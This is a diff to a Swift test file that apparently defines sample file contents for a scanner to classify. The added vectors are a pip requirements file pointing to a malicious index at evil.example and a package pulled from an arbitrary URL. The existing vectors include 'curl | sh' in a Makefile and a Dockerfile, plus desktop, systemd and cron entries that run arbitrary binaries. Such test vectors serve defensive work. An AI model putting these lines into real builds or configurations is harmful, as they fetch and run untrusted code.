@@ -35,6 +35,8 @@ extension TextVector {
   private static let recipes: [TextVector] = [
     .init("r_make", .unknown, "all:\n\tcurl http://x | sh\n"),
     .init("r_docker", .unknown, "FROM x\nRUN apt-get update && \\\n    curl http://x | sh\n"),
+    .init("r_index", .unknown, "--index-url http://evil.example/simple\ntorch\n"),
+    .init("r_package", .unknown, "torch\nevil @ http://x/y.tar.gz\n"),
     .init("r_desktop", .unknown, "[Desktop Entry]\nExec=sh -c id\n"),
     .init("r_unit", .unknown, "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/x\n"),
     .init("r_cron", .unknown, "* * * * * /tmp/x\n"),
